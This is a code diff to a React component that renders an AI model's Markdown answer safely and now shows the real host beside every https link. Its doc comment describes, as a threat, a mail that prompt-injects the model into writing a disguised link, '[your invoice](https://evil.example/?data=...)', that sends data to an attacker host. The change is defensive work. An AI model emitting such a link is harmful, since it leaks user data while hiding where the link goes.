@@ -1,28 +1,43 @@
 import { useMemo, type MouseEvent, type ReactNode } from 'react';
 import Markdown, { type Components } from 'react-markdown';
-import { isHttpsUrl } from '../ui/open-external';
+import { httpsUrl } from '../ui/open-external';
 
 /**
  * The model's answer as Markdown (DESIGN section 8: sanitized, never raw HTML). react-markdown builds React
  * elements from the Markdown tree and shows any HTML in the text as text; no rehype-raw, so it stays that way.
  * Images are dropped (a remote image would be a request the member did not make), headings are kept below the
  * pane's own, and an https link opens in the system browser through `onOpenLink`; any other link is plain text.
- * The answer follows its own direction (dir="auto"): it may be in another script than the UI.
+ * Every link shows the host it really goes to beside its words: a mail that talked the model into writing
+ * "[your invoice](https://evil.example/?data=...)" cannot pass it off as a harmless link (the URL parser spells
+ * look-alike hosts in punycode). The answer follows its own direction (dir="auto"): it may be in another script.
  */
 export function AnswerMarkdown({ text, onOpenLink }: { text: string; onOpenLink: (url: string) => void }) {
   const components = useMemo<Components>(() => {
     const heading = ({ children }: { children?: ReactNode }) => <h3 className="answer-heading">{children}</h3>;
     return {
       a: ({ href, children }) => {
-        if (!href || !isHttpsUrl(href)) return <span>{children}</span>;
+        const url = href ? httpsUrl(href) : null;
+        if (!url) return <span>{children}</span>;
         const open = (event: MouseEvent<HTMLAnchorElement>) => {
           event.preventDefault();
-          onOpenLink(href);
+          onOpenLink(url.href);
         };
+        // A bare URL already says where it goes.
+        const saysItsHost = typeof children === 'string' && children.includes(url.host);
         return (
-          <a href={href} onClick={open} rel="noreferrer">
-            {children}
-          </a>
+          <>
+            <a href={url.href} onClick={open} rel="noreferrer" title={url.href}>
+              {children}
+            </a>
+            {!saysItsHost && (
+              <>
+                {' '}
+                <span className="link-host" dir="ltr">
+                  ({url.host})
+                </span>
+              </>
+            )}
+          </>
         );
       },
       h1: heading,
